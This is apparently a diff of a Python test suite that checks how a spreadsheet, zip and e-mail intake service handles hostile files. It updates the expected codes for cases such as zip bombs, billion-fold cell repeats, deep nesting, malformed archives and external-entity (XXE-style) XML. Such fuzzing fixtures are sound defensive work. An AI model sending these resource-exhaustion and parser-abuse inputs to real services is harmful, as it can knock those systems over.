-ods_case("a number repeated over 16,384 columns", f"partly|taken|{ANY}", lambda: ods("<table:table-row>" + NUMBER.format(5, ' table:number-columns-repeated="16384"', 5) + "</table:table-row>"))
-ods_case("a text repeated a million times", f"partly|taken|{ANY}", lambda: ods('<table:table-row table:number-rows-repeated="1000000"><table:table-cell office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>'))
+ods_case("rows repeated 4 billion times", "taken", lambda: ods(EMPTY_ROWS.format(4_294_967_295, 4_294_967_295, "")))
+ods_case("rows repeated -1 times", "taken", lambda: ods(EMPTY_ROWS.format(-1, "x", "")))
+ods_case("a number in every cell of the sheet", "too-large", lambda: ods('<table:table-row table:number-rows-repeated="1048000">' + NUMBER.format(5, ' table:number-columns-repeated="16384"', 5) + "</table:table-row>"))
+ods_case("a number repeated over 16,384 columns", "taken stray-content", lambda: ods("<table:table-row>" + NUMBER.format(5, ' table:number-columns-repeated="16384"', 5) + "</table:table-row>"))
+ods_case("a text repeated a million times", "too-large", lambda: ods('<table:table-row table:number-rows-repeated="1000000"><table:table-cell office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>'))
 ods_case("a number in the last cell", "taken", lambda: ods(EMPTY_ROWS.format(1_048_536, 1, "") + '<table:table-row><table:table-cell table:number-columns-repeated="16383"/>' + NUMBER.format(1, "", 1) + "</table:table-row>"))
-ods_case("spaces repeated 4 billion times", f"partly|taken|{ANY}", lambda: ods(spoilt='<table:table-cell office:value-type="string"><text:p>5<text:s text:c="4294967295"/></text:p></table:table-cell>'))
+ods_case("spaces repeated 4 billion times", "taken number-as-text", lambda: ods(spoilt='<table:table-cell office:value-type="string"><text:p>5<text:s text:c="4294967295"/></text:p></table:table-cell>'))
 ods_case("text nested 30,000 deep", "unreadable-file", lambda: ods(spoilt='<table:table-cell office:value-type="string"><text:p>' + "<text:span>" * 30_000 + "5" + "</text:span>" * 30_000 + "</text:p></table:table-cell>"))
-ods_case("merged over everything", f"cell-error|partly|taken|{ANY}", lambda: ods(spoilt=NUMBER.format(5, ' table:number-columns-spanned="16384" table:number-rows-spanned="1048576"', 5)))
+ods_case("merged over everything", "cell-error", lambda: ods(spoilt=NUMBER.format(5, ' table:number-columns-spanned="16384" table:number-rows-spanned="1048576"', 5)))
 ods_case("a million rows", f"taken|{ANY}", lambda: ods("<table:table-row/>" * 1_000_000))
 ods_case("300,000 numbers", f"taken|{ANY}", lambda: ods("".join("<table:table-row>" + NUMBER.format(1, "", 1) * 20 + "</table:table-row>" for _ in range(15_000))))
 ods_case("DOCTYPE", "unreadable-file", lambda: ods(before=ENTITY))
@@ -729,8 +737,8 @@ ods_case("entity from a file", "unreadable-file", lambda: ods(before=EXTERNAL, s
 ods_case("number literal NaN", "partly", lambda: ods(spoilt=NUMBER.format("NaN", "", "NaN")))
 ods_case("number literal 1e999", "partly", lambda: ods(spoilt=NUMBER.format("1e999", "", "?")))
 ods_case("password", "encrypted-file", lambda: ods(content=noise(900), **{"META-INF/manifest.xml": "<manifest><file-entry><encryption-data/></file-entry></manifest>"}))
-ods_case("manifest of 500 MB", f"taken|{ANY}", lambda: ods(**{"META-INF/manifest.xml": " " * (9 << 20)}))
-ods_case("mimetype of 4 MB", "taken|unsupported-format|unreadable-file|too-large", lambda: ods(mimetype=CALC + " " * (4 << 20)))
+ods_case("manifest of 9 MB", "too-large", lambda: ods(**{"META-INF/manifest.xml": " " * (9 << 20)}))
+ods_case("mimetype of 4 MB", "unsupported-format", lambda: ods(mimetype=CALC + " " * (4 << 20)))
 ods_case("no mimetype", "taken", lambda: sheets.zipped({n: b for n, b in unpacked(ods()).items() if n != "mimetype"}))
 ods_case("no content", "unreadable-file", lambda: ods(content=""))
 ods_case("content cut", "unreadable-file", lambda: ods(content="<office:document-content><office:body>"))
@@ -778,10 +786,10 @@ zip_case("a member with a wrong checksum", {"": "unreadable-file", "a.xlsx": "ta
 zip_case("a member that is a bomb", {"": ANY, "a.xlsx": "taken"}, lambda: bundle({"a.xlsx": FORM, "b.xlsx": b"\0" * (12 << 20)}))
 zip_case("a workbook inside that is a bomb", {"a.xlsx": "taken", "b.xlsx": ANY}, lambda: sheets.zipped({"a.xlsx": FORM, "b.xlsx": bomb(DATA, 1 << 30)}, method=zipfile.ZIP_STORED))
 zip_case("members that overlap", {"": "unreadable-file", "a.xlsx": "taken"}, lambda: patched(bundle({"a.xlsx": FORM, "b.xlsx": FORM}), "b.xlsx", listed={42: b"\0\0\0\0"}))
-zip_case("promises 2 GB", ANY, lambda: patched(bundle({"a.xlsx": FORM, "b.xlsx": FORM}), "b.xlsx", listed={24: b"\xff\xff\xff\x7f"}))
-zip_case("60 MB together", ANY, lambda: bundle({f"{i}.xlsx": FORM + noise(64) * 160_000 for i in range(6)}))
+zip_case("promises 2 GB", "unreadable-file", lambda: patched(bundle({"a.xlsx": FORM, "b.xlsx": FORM}), "b.xlsx", listed={24: b"\xff\xff\xff\x7f"}))
+zip_case("60 MB together", "unreadable-file", lambda: bundle({f"{i}.xlsx": FORM + noise(64) * 160_000 for i in range(6)}))
 zip_case("2,000 members", "unreadable-file", lambda: bundle({f"{i}.txt": "" for i in range(2_000)}))
-zip_case("a million members told", ANY, lambda: raw_zip([(b"a", b"x", 400_000)]))
+zip_case("400,000 members told", "too-large", lambda: raw_zip([(b"a", b"x", 400_000)]))
 zip_case("nested four times", {"2.zip": "unsupported-format"}, lambda: bundle({"2.zip": bundle({"3.zip": bundle({"4.zip": bundle({"a.xlsx": FORM})})})}))
 zip_case("itself (a quine has the same shape)", {"r.zip": "unsupported-format"}, lambda: bundle({"r.zip": bundle({"r.zip": b"PK\x05\x06" + bytes(18)})}))
 zip_case("nothing", "unsupported-format", lambda: b"PK\x05\x06" + bytes(18))
@@ -818,19 +826,19 @@ mail_case("control characters in the name", {"a\ufffd\ufffdb.xlsx": "taken"}, la
 mail_case("quoted-printable", {"a.xlsx": "taken"}, lambda: mail(attached(FILE, encoding=b"quoted-printable")))
 mail_case("8bit", {"a.xlsx": "taken|unreadable-file"}, lambda: mail(attached(FILE, encoding=b"8bit")))
 mail_case("base64 broken in the middle", {"a.xlsx": "unreadable-file"}, lambda: mail(attached(FILE).replace(b"AAAA", b"*\n!AA", 9)))
-mail_case("base64 cut", {"a.xlsx": "unreadable-file", "": "-"}, lambda: mail(attached(FILE))[:3_000])
+mail_case("base64 cut", {"a.xlsx": "unreadable-file"}, lambda: mail(attached(FILE))[:3_000])
 mail_case("an encoding that is none", {"a.xlsx": "unreadable-file"}, lambda: mail(attached(FILE).replace(b"base64", b"x-none")))
 mail_case("a mail passed on", {"a.xlsx": "taken"}, lambda: mail(b"Content-Type: message/rfc822\r\n\r\n" + mail(attached(FILE), boundary=b"b2")))
 mail_case("a mail as a file", {"x.eml": "unsupported-format"}, lambda: mail(attached(b"filename=x.eml", mail(attached(FILE)))))
-mail_case("mails within mails, 50 deep", "unsupported-format|unreadable-file", lambda: deep_mails(50))
-mail_case("multiparts within multiparts, 500 deep", "unsupported-format|unreadable-file", lambda: deep_parts(500))
+mail_case("mails within mails, 50 deep", "unsupported-format", lambda: deep_mails(50))
+mail_case("multiparts within multiparts, 500 deep", "unsupported-format", lambda: deep_parts(500))
 mail_case("3,000 parts", {"": ANY}, lambda: mail(*[b"Content-Type: text/plain\r\n\r\nx"] * 3_000))
 mail_case("a million parts", "unreadable-file", lambda: mail(*[b"\r\nx"] * 1_000_000))
-mail_case("a million headers", "unsupported-format|unreadable-file|too-large", lambda: mail(attached(FILE), head=b"X-A: b\r\n" * 1_000_000))
+mail_case("a million headers", "unreadable-file", lambda: mail(attached(FILE), head=b"X-A: b\r\n" * 1_000_000))
 mail_case("a header of 5 MB", {"a.xlsx": "taken"}, lambda: mail(attached(FILE), head=b"Subject: " + b"x" * (5 << 20) + b"\r\n"))
 mail_case("a name of 5 MB", {"tệp đính kèm 1": "taken"}, lambda: mail(attached(b"filename=" + b";" * (5 << 20))))
 mail_case("10,000 parameters", {"tệp đính kèm 1": "taken"}, lambda: mail(attached(b";".join(b"a%d=1" % i for i in range(10_000)))))
-mail_case("31 MB of empty lines", ANY, lambda: mail(b"\r\n" * (15 << 20)))
+mail_case("30 MB of empty lines", "unreadable-file", lambda: mail(b"\r\n" * (15 << 20)))
 mail_case("winmail.dat", {"winmail.dat": "unsupported-format"}, lambda: mail(attached(b"filename=winmail.dat", b"\x78\x9f\x3e\x22" + bytes(99))))
 mail_case("pictures, signatures and texts are left out", {"a.xlsx": "taken"}, lambda: mail(b"Content-Type: text/html\r\n\r\n<p>", attached(b'filename="k.png"\r\nContent-ID: <1>', b"\x89PNG", kind=b"image/png"), attached(b"filename=smime.p7s", b"x"), attached(FILE)))
 mail_case("no date", {"a.xlsx": "taken"}, lambda: re.sub(rb"Date:[^\n]*\n", b"", mail(attached(FILE))))
@@ -842,7 +850,7 @@ mail_case("three attachments of 4 MB", {f"{i}.pdf": "unsupported-format" for i i
 mail_case("a .zip attached", {"a.zip": "unsupported-format"}, lambda: mail(attached(b"filename=a.zip", bundle({"x.xlsx": FORM}))))
 mail_case("an .xls attached as text", {"a.xlsx": "unreadable-file"}, lambda: mail(attached(FILE, b"TT,5\r\n", kind=b"text/csv")))
 mail_case("our own marks in it", {"a.xlsx": "unreadable-file"}, lambda: mail(attached(FILE)).replace(base64.encodebytes(FORM), b"\x010\x01\x019\x01"))
-mail_case("no boundary", "unsupported-format|unreadable-file", lambda: mail(attached(FILE)).replace(b'; boundary="b1"', b""))
+mail_case("no boundary", "unsupported-format", lambda: mail(attached(FILE)).replace(b'; boundary="b1"', b""))
 
 
 def deep_mails(levels: int) -> bytes:
@@ -940,7 +948,6 @@ def answers(folder: Path) -> dict[str, tuple[list[str], dict[str, str]]]:
 def wrong(case: Case, told: Mapping[str, tuple[list[str], dict[str, str]]]) -> str:
     """What is wrong with the answers to ``case``; empty when all is well."""
     wanted = dict(case.wanted) if not isinstance(case.wanted, str) else {case.file: case.wanted}
-    wanted = {name: w for name, w in wanted.items() if w != "-"}
     wanted[GOOD] = "taken"
     for name in told.keys() - wanted.keys():
         return f"{name}: {told[name]} was not wanted"
@@ -963,7 +970,7 @@ def _fits(wanted: str, codes: list[str], figures: Mapping[str, str]) -> bool:
         return "!" not in codes and figures == EXPECTED
     if state == "partly":
         return bool(figures) and figures != EXPECTED and "!" in codes
-    return state in codes and (not figures or "!" in codes)
+    return state in codes and "!" in codes and not figures
 
 
 @dataclass(frozen=True)
@@ -1041,7 +1048,7 @@ HEAVY = frozenset(
     {
         "sheet of 2 GB of spaces",
         "property part of 1 GB",
-        "65,535 parts",
+        "65,000 parts",
         "million formatted rows as Excel writes them",
         "million formatted rows with a cell each",
         "million formatted rows as LibreOffice writes them",
@@ -1053,7 +1060,7 @@ HEAVY = frozenset(
         "300,000 numbers on the scratch sheet",
         "a million rows",
         "300,000 numbers",
-        "300,001 numbers",
+        "300,020 numbers",
         "a million parts",
     }
 )
